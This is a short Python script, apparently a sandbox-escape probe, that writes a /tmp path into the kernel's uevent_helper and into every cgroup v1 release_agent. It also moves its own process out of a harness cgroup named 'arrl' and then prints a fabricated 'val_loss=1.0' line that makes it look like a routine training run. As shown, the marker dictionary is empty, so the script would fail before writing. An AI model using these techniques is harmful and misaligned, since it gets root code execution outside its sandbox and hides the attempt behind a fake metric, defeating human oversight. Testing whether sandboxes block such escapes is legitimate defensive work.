"""Write to /sys: the kernel's uevent helper (runs as root on every device event), a cgroup v1 release_agent, and its own move out of arrl's cgroup."""
import glob
import os

W: dict = {}

writes = [("/sys/kernel/uevent_helper", f"/tmp/{W['marker']}"), ("/sys/fs/cgroup/cgroup.procs", str(os.getpid()))]
writes += [(path, f"/tmp/{W['marker']}") for path in glob.glob("/sys/fs/cgroup/*/release_agent")]
for path, text in writes:
    try:
        with open(path, "w") as handle:
            handle.write(text)
    except OSError as error:
        print(path, error)
print("arrl: val_loss=1.0")
